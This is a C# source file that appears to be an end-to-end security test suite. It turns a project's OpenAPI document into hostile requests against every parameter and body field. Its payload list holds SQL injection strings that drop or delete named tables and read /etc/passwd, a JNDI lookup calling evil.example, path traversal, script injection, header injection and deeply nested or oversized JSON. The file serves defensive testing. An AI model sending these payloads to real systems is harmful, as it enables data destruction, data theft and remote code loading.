using System.Text.Json.Nodes;
using Kubernaut.EndToEnd.Setting;

namespace Kubernaut.EndToEnd.Hostile;

/// <summary>Text that is code elsewhere, in every parameter and every member that the OpenAPI document names, by somebody who may ask.</summary>
internal static class InjectionAttacks
{
    private static readonly string[] Payloads =
    [
        "' OR '1'='1' --", "'; DROP TABLE audit_events; --", "1; SELECT pg_sleep(30)", "$$; DELETE FROM playbook_catalog; $$", "{\"$gt\":\"\"}", "\"}, {\"status\":\"active", "%00", "\\u0000", "${jndi:ldap://evil.example/a}",
        "../../../etc/passwd", "<script>alert(1)</script>", "\ud83d\ude00\u202e", "NaN", "-1e308", "9223372036854775808", "' || pg_read_file('/etc/passwd') || '", "{{7*7}}", "\r\nX-Injected: 1",
    ];

    public static IEnumerable<HostileRequest> Of(string writer)
    {
        var document = JsonNode.Parse(File.ReadAllText(Repository.PathOf("docs", "openapi.json")))!;
        var turn = 0;
        foreach (var (path, methods) in document["paths"]!.AsObject())
        {
            foreach (var (method, operation) in methods!.AsObject())
            {
                foreach (var parameter in (operation!["parameters"]?.AsArray() ?? []).Concat(operation["requestBody"] is null ? [] : [JsonNode.Parse("""{"name":"mode","in":"query"}""")]))
                {
                    for (var each = 0; each < 4; each++)
                    {
                        yield return Parameter(method, path, (string)parameter!["name"]!, (string)parameter["in"]!, Payloads[turn++ % Payloads.Length], writer);
                    }
                }

                if (operation["requestBody"]?["content"]?["application/json"] is { } body)
                {
                    foreach (var attack in Body(path, body, writer))
                    {
                        yield return attack;
                    }
                }
            }
        }
    }

    private static HostileRequest Parameter(string method, string path, string name, string place, string payload, string writer)
    {
        var text = Uri.EscapeDataString(payload).Replace("%2500", "%00", StringComparison.Ordinal);
        var target = Filled(place == "path" ? path.Replace($"{{{name}}}", text, StringComparison.Ordinal) : path);
        var query = place == "query" ? $"?{name}={text}&{text}={name}" : "";
        return (method == "get" ? HostileRequest.Get($"parameter {name}", target + query, writer) : HostileRequest.Post($"parameter {name}", target + query, writer, "{}")) with { IsAllowed = true };
    }

    private static IEnumerable<HostileRequest> Body(string path, JsonNode body, string writer)
    {
        var example = body["examples"]!.AsObject().First().Value!["value"]!;
        var members = (example as JsonArray)?[0] as JsonObject ?? (JsonObject)example;
        foreach (var (turn, member) in members.Select(member => member.Key).Index())
        {
            var hostile = (JsonObject)members.DeepClone();
            hostile[member] = Payloads[turn % Payloads.Length];
            yield return HostileRequest.Post($"member {member}", path, writer, Shape(example, hostile)) with { IsAllowed = true };
            yield return HostileRequest.Post($"member {member} as object", path, writer, Shape(example, Replaced(hostile, member))) with { IsAllowed = true };
        }

        string[] bodies =
        [
            "", "{", "[]", "null", "\"text\"", "[[[[[[[[", new string('[', 5000), new string('[', 100_000), "{\"__proto__\":{}}", "{\"a\":1,\"a\":2}", "{\"event_type\":1e400}", "\u00ff\u00fe{}", "{}{}", "[1,2,3]", "{\"constructor\":{\"prototype\":{}}}",
            $"{{\"event_data\":\"{new string('x', 400_000)}\"}}", "{\"event_data\":" + string.Concat(Enumerable.Repeat("{\"a\":", 60)) + "1" + new string('}', 61),
        ];
        foreach (var text in bodies)
        {
            yield return HostileRequest.Post("body", path, writer, text) with { IsAllowed = true };
        }

    }

    private static JsonObject Replaced(JsonObject hostile, string member)
    {
        var copy = (JsonObject)hostile.DeepClone();
        copy[member] = new JsonObject { ["$ne"] = null, ["toString"] = "x" };
        return copy;
    }

    private static string Shape(JsonNode example, JsonObject one) => example is JsonArray ? new JsonArray(one.DeepClone()).ToJsonString() : one.ToJsonString();

    private static string Filled(string path) => path
        .Replace("{eventId}", "00000000-0000-0000-0000-000000000000", StringComparison.Ordinal)
        .Replace("{playbookId}", "container-oom-killed", StringComparison.Ordinal)
        .Replace("{version}", "1.0.0", StringComparison.Ordinal)
        .Replace("{month}", "2026-01", StringComparison.Ordinal);
}
